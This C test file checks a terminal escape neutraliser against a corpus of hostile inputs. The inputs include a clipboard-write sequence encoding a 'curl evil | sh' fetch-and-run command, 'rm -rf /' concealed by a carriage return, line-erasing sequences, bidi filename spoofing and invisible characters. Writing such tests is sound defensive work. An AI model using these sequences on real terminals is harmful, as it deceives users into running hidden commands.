// SPDX-License-Identifier: GPL-2.0-or-later
/* Escape neutralisation against a corpus of hostile terminal sequences. */
#include <stdlib.h>
#include <string.h>

#include "base/utf8.h"
#include "check.h"
#include "view/neutralise.h"

static char *neut(const char *in, size_t n, unsigned mode)
{
	struct ta_buf b;

	ta_buf_init(&b);
	ta_neutralise(in, n, mode, &b);
	ta_buf_putc(&b, '\0');
	return (char *)b.p;
}

/*
 * Nothing in the result may be a control character other than LF/TAB, nor a C1 or bidi
 * code point; and no character carries more than TA_MAX_MARKS combining marks.
 */
static int safe(const char *s, int allow_lf)
{
	const unsigned char *p = (const unsigned char *)s;
	size_t n = strlen(s);
	int marks = 0;

	for (size_t i = 0; i < n;) {
		uint32_t cp;
		int l = ta_utf8_decode(p + i, n - i, &cp);
		if (l <= 0)
			return 0; /* output must be valid UTF-8 */
		if (ta_cp_dangerous(cp) && !(allow_lf && (cp == '\n' || cp == '\t')))
			return 0;
		marks = ta_cp_combining(cp) ? marks + 1 : 0;
		if (marks > TA_MAX_MARKS)
			return 0;
		i += (size_t)l;
	}
	return 1;
}

static void line_marker(void *ctx, struct ta_buf *out)
{
	(void)ctx;
	ta_buf_put(out, "o| ", 3);
}

struct corpus { const char *name, *in; size_t n; const char *want; };
#define C(name, in, want) { name, in, sizeof(in) - 1, want }

int main(void)
{
	static const struct corpus cases[] = {
		C("plain", "hello world\n", "hello world\n"),
		C("tab kept", "a\tb", "a\tb"),
		C("crlf", "line\r\nnext", "line\nnext"),
		C("lone cr hides a line", "rm -rf /\rls      ", "rm -rf /\\rls      "),
		C("osc title", "\x1b]0;owned\x07", "\\e]0;owned\\a"),
		C("osc 52 clipboard", "\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x1b\\", "\\e]52;c;Y3VybCBldmlsIHwgc2g=\\e\\\\"),
		C("cursor up + erase line", "secret\n\x1b[1A\x1b[2Kinnocent", "secret\n\\e[1A\\e[2Kinnocent"),
		C("erase display", "\x1b[2J\x1b[H", "\\e[2J\\e[H"),
		C("dcs", "\x1bP1$r0m\x1b\\", "\\eP1$r0m\\e\\\\"),
		C("8-bit csi", "\x9b" "31m", "\\x9b31m"),
		C("8-bit osc", "\x9d" "0;t\x9c", "\\x9d0;t\\x9c"),
		C("utf-8 c1 csi", "\xc2\x9b" "2J", "\\u{009b}2J"),
		C("utf-8 c1 next line", "a\xc2\x85" "b", "a\\u{0085}b"),
		C("bidi override", "\xe2\x80\xae" "exe.txt", "\\u{202e}exe.txt"),
		C("bidi isolate", "\xe2\x81\xa6x\xe2\x81\xa9", "\\u{2066}x\\u{2069}"),
		C("line separator", "a\xe2\x80\xa8" "b", "a\\u{2028}b"),
		/* Invisible and format characters: what is there but shows nothing. */
		C("zero-width space", "r\xe2\x80\x8bm -rf", "r\\u{200b}m -rf"),
		C("zero-width joiner", "r\xe2\x80\x8dm", "r\\u{200d}m"),
		C("word joiner", "r\xe2\x81\xa0m", "r\\u{2060}m"),
		C("bom", "\xef\xbb\xbfls", "\\u{feff}ls"),
		C("soft hyphen", "p\xc2\xad" "asswd", "p\\u{00ad}asswd"),
		C("tag characters", "ok\xf3\xa0\x80\x81\xf3\xa0\x81\xa9", "ok\\u{e0001}\\u{e0069}"),
		C("hangul filler", "a\xe3\x85\xa4" "b", "a\\u{3164}b"),
		C("hangul choseong filler", "\xe1\x85\x9f", "\\u{115f}"),
		C("halfwidth hangul filler", "\xef\xbe\xa0", "\\u{ffa0}"),
		C("variation selector 16", "x\xef\xb8\x8f", "x\\u{fe0f}"),
		C("variation selector supplement", "x\xf3\xa0\x84\x80", "x\\u{e0100}"),
		C("mongolian vowel separator", "a\xe1\xa0\x8e" "b", "a\\u{180e}b"),
		/* Format characters glibc's wcwidth gives 0 columns (the attacker's review). */
		C("shorthand format letter overlap", "r\xf0\x9b\xb2\xa0m -rf", "r\\u{1bca0}m -rf"),
		C("egyptian hieroglyph joiner", "r\xf0\x93\x90\xb0m", "r\\u{13430}m"),
		C("interlinear annotation anchor", "r\xef\xbf\xb9m", "r\\u{fff9}m"),
		C("reserved default-ignorable", "r\xef\xbf\xb0m", "r\\u{fff0}m"),
		C("arabic number sign", "r\xd8\x80m", "r\\u{0600}m"),
		C("unassigned tag plane", "r\xf3\xa0\x82\x80m", "r\\u{e0080}m"),
		C("visible non-ascii kept", "caf\xc3\xa9 \xe2\x82\xac", "caf\xc3\xa9 \xe2\x82\xac"),
		C("backspace overwrite", "good\b\b\b\bevil", "good\\b\\b\\b\\bevil"),
		C("bell nul del", "\x07\x00\x7f", "\\a\\x00\\x7f"),
		C("backslash", "C:\\temp", "C:\\\\temp"),
		C("invalid utf-8", "\xff\xfe\xc0\xaf", "\\xff\\xfe\\xc0\\xaf"),
		C("surrogate", "\xed\xa0\x80", "\\xed\\xa0\\x80"),
		C("valid utf-8 kept", "caf\xc3\xa9 \xe2\x9c\x93 \xf0\x9f\x98\x80", "caf\xc3\xa9 \xe2\x9c\x93 \xf0\x9f\x98\x80"),
		C("truncated at end", "ok\xe2\x80", "ok\\xe2\\x80"),
		C("vt52 / ss3 / apc / pm / sos", "\x1bY\x1bO\x1b_x\x1b^y\x1bXz", "\\eY\\eO\\e_x\\e^y\\eXz"),
		/* Combining marks: what scripts need is kept, a pile is not. */
		C("nfd accent kept", "cafe\xcc\x81", "cafe\xcc\x81"),
		C("vietnamese nfd kept", "Vie\xcc\xa3\xcc\x82t", "Vie\xcc\xa3\xcc\x82t"),
		C("hebrew niqqud and accent kept", "\xd7\xa9\xd7\x81\xd6\xbc\xd6\xb8\xd6\x94",
		  "\xd7\xa9\xd7\x81\xd6\xbc\xd6\xb8\xd6\x94"),
		C("cjk and hangul are no marks", "\xe4\xb8\xad\xea\xb0\x80\xcc\x81", "\xe4\xb8\xad\xea\xb0\x80\xcc\x81"),
		C("four marks kept, more escaped", "x\xcc\x81\xcc\x82\xcc\x83\xcc\x84\xcc\x85\xe2\x83\x9d" "y",
		  "x\xcc\x81\xcc\x82\xcc\x83\xcc\x84\\u{0305}\\u{20dd}y"),
		C("enclosing marks escaped", "y\xe2\x83\x9dz 1\xe2\x83\xa3", "y\\u{20dd}z 1\\u{20e3}"),
		C("mark on nothing recorded", "\xcc\xb8" "a", "\\u{0338}a"),
		C("mark after a tab", "a\t\xcc\xb8", "a\t\\u{0338}"),
		C("mark after an escape", "\x1b\xcc\xb8[", "\\e\\u{0338}["),
		C("mark after a lone cr", "a\r\xcc\xb8", "a\\r\\u{0338}"),
		C("kitty / iterm file write", "\x1b]1337;File=name=eA==:eA==\x07", "\\e]1337;File=name=eA==:eA==\\a"),
	};
	for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		char *got = neut(cases[i].in, cases[i].n, TA_NEUT_TEXT);
		if (strcmp(got, cases[i].want))
			fprintf(stderr, "case '%s': got '%s' want '%s'\n", cases[i].name, got, cases[i].want);
		CHECK_EQ_STR(got, cases[i].want);
		CHECK(safe(got, 1));
		free(got);
		got = neut(cases[i].in, cases[i].n, TA_NEUT_LINE);
		CHECK(safe(got, 0));
		CHECK(strchr(got, '\n') == NULL);
		free(got);
	}

	/* Split anywhere across calls: the same result as in one piece. */
	static const char mixed[] = "a\r\n\xe2\x80\xae\x1b]52;c;x\x07\xc3\xa9\r\xf0\x9f\x98\x80\xc2\x9b" "b\r";
	char *whole = neut(mixed, sizeof(mixed) - 1, TA_NEUT_TEXT);
	unsigned splits = 0, differ = 0;
	for (size_t cut1 = 0; cut1 <= sizeof(mixed) - 1; cut1++) {
		for (size_t cut2 = cut1; cut2 <= sizeof(mixed) - 1; cut2++) {
			struct ta_buf b;
			struct ta_neut n;
			ta_buf_init(&b);
			ta_neut_init(&n, TA_NEUT_TEXT);
			ta_neut_feed(&n, mixed, cut1, &b);
			ta_neut_feed(&n, mixed + cut1, cut2 - cut1, &b);
			ta_neut_feed(&n, mixed + cut2, sizeof(mixed) - 1 - cut2, &b);
			ta_neut_flush(&n, &b);
			ta_buf_putc(&b, '\0');
			splits++;
			if (strcmp((char *)b.p, whole)) {
				differ++;
				CHECK_EQ_STR((char *)b.p, whole);
				fprintf(stderr, "cuts %zu %zu\n", cut1, cut2);
			}
			ta_buf_free(&b);
		}
	}
	CHECK_EQ_INT(differ, 0);
	/* Every pair of cuts was tried: (n+1)(n+2)/2 of them. */
	CHECK_EQ_INT(splits, (sizeof(mixed)) * (sizeof(mixed) + 1) / 2);
	free(whole);

	/*
	 * A line the caller marks (show's "o| ", set between records): a mark
	 * first on it has no recorded character under it, whatever came before.
	 */
	{
		struct ta_buf b;
		struct ta_neut n;
		ta_buf_init(&b);
		ta_neut_init(&n, TA_NEUT_TEXT);
		n.bol = line_marker;
		n.at_bol = true;
		ta_neut_feed(&n, "a", 1, &b);
		n.at_bol = true;
		ta_neut_feed(&n, "\xcc\x81" "b", 3, &b);
		ta_neut_flush(&n, &b);
		ta_buf_putc(&b, '\0');
		CHECK_EQ_STR((char *)b.p, "o| ao| \\u{0301}b");
		ta_buf_free(&b);
	}

	/* Marks split from their character across calls: counted as in one piece. */
	static const char piled[] = "x\xcc\x81\xcc\x82\xcc\x83\xcc\x84\xcc\x85\xcc\x86";
	char *one_piece = neut(piled, sizeof(piled) - 1, TA_NEUT_TEXT);
	for (size_t cut = 0; cut <= sizeof(piled) - 1; cut++) {
		struct ta_buf b;
		struct ta_neut n;
		ta_buf_init(&b);
		ta_neut_init(&n, TA_NEUT_TEXT);
		ta_neut_feed(&n, piled, cut, &b);
		ta_neut_feed(&n, piled + cut, sizeof(piled) - 1 - cut, &b);
		ta_neut_flush(&n, &b);
		ta_buf_putc(&b, '\0');
		CHECK_EQ_STR((char *)b.p, one_piece);
		ta_buf_free(&b);
	}
	free(one_piece);

	/* Random bytes never produce anything unsafe. */
	srand(42);
	unsigned unsafe = 0, tried = 0;
	for (int r = 0; r < 2000; r++) {
		char in[256];
		size_t n = (size_t)(rand() % 256);
		for (size_t i = 0; i < n; i++)
			in[i] = (char)(rand() % 4 ? rand() & 0xff : (rand() % 2 ? 0x1b : 0x9b));
		char *got = neut(in, n, TA_NEUT_TEXT);
		tried++;
		if (!safe(got, 1)) {
			unsafe++;
			fprintf(stderr, "unsafe output for random input %d\n", r);
			free(got);
			break;
		}
		free(got);
	}
	CHECK_EQ_INT(unsafe, 0);
	CHECK_EQ_INT(tried, 2000);
	return check_result();
}
